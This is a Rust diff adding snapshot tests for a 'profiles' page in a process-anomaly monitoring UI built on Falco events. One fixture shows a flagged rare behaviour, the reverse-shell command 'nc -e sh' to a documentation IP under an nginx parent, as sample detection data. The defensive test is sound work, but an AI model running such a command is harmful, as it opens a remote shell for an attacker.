@@ -11,7 +11,8 @@ use std::sync::Arc;
 use lanner_core::{AlertState, Labels};
 use lanner_page::frame::Visitor;
 use lanner_page::now::{self, Filter, Now, PARTS, Row};
-use lanner_page::{alert, assets, editor, explore, more, rules, sign_in, silences, switches};
+use lanner_page::tree::Tree;
+use lanner_page::{alert, assets, editor, explore, more, profiles, rules, sign_in, silences, switches};
 use lanner_wire::api::{
     AlertView, EvaluationView, ProblemView, RuleDocument, RuleView, SilenceView, Status, SwitchPreview,
     SwitchView,
@@ -364,6 +365,65 @@ fn the_rest() {
         problem: None,
     };
     check("explore", &explore::page(&visitor(), &shown));
+}
+
+fn profile(status: &str) -> Value {
+    json!({
+        "id": "usual", "stream": "falco", "into": "anomaly", "fields": ["proc.exepath", "template(proc.cmdline)"], "status": status,
+        "learned": 0.25, "events": 2881, "behaviours": 4, "novelty_rate": 0.0125, "flags_per_day": 1.24, "first": ago(3000), "latest": ago(2),
+        "full": 0.031, "memory_bytes": 8_388_608, "hosts": 2,
+    })
+}
+
+#[test]
+fn behaviour_and_one_profile() {
+    check("profiles-none", &profiles::list(&visitor(), &[]));
+    check("profiles", &profiles::list(&visitor(), &[read(profile("active")), read(profile("learning"))]));
+    let empty = |status: &str| profiles::One {
+        detail: read(json!({ "profile": profile(status), "frequent": [], "hosts": [] })),
+        span: "24h".to_owned(),
+        steps: Vec::new(),
+        rare: Vec::new(),
+        tree: Tree::default(),
+        cut_at: None,
+    };
+    check("profile-learning", &profiles::one(&reader(), &empty("learning")));
+    let host = |name: &str, heard: i64| json!({ "host": name, "status": "active", "events": 40, "behaviours": 7, "novelty_rate": 0.5, "heard": ago(heard) });
+    let rare = profiles::Rare {
+        time: lanner_wire::api::Time(NOW_MS - 120_000),
+        host: Some("web-7".to_owned()),
+        what: "nc -e sh <203.0.113.7>".to_owned(),
+        reason: "never seen: proc.exepath; in the fleet on 12 of 40 hosts".to_owned(),
+        parts: vec![
+            ("proc.exepath".to_owned(), "/usr/bin/nc".to_owned(), true),
+            ("template(proc.cmdline)".to_owned(), "nc -e sh #".to_owned(), false),
+        ],
+        ancestors: vec!["nginx".to_owned(), "systemd".to_owned()],
+        seen: 0,
+        rarity_bits: 11.5,
+        fleet: Some((true, "12 of 40 hosts".to_owned())),
+    };
+    let step = |nth: usize| profiles::Step {
+        start_ms: NOW_MS - 1_800_000 * (8 - nth as i64),
+        n_events: 60 + nth,
+        n_new: nth % 3,
+        n_rare: nth / 7,
+    };
+    let mut tree = Tree::default();
+    tree.add(&["systemd", "nginx", "nc"], true);
+    tree.add(&["systemd", "cron", "backup"], false);
+    let whole = profiles::One {
+        detail: read(json!({
+            "profile": profile("active"), "hosts": [host("web-1", 3), host("web-7", 1)],
+            "frequent": [{ "behaviour": "/usr/bin/dash | sh -c <backup>", "at_least": 960, "at_most": 960 }, { "behaviour": "b", "at_least": 3, "at_most": 5 }],
+        })),
+        steps: (0..8).map(step).collect(),
+        rare: vec![rare],
+        tree,
+        cut_at: Some(100_000),
+        ..empty("active")
+    };
+    check("profile", &profiles::one(&visitor(), &whole));
 }
 
 /// A page that is full is small enough for a telephone's network, and its alerts can all be found.
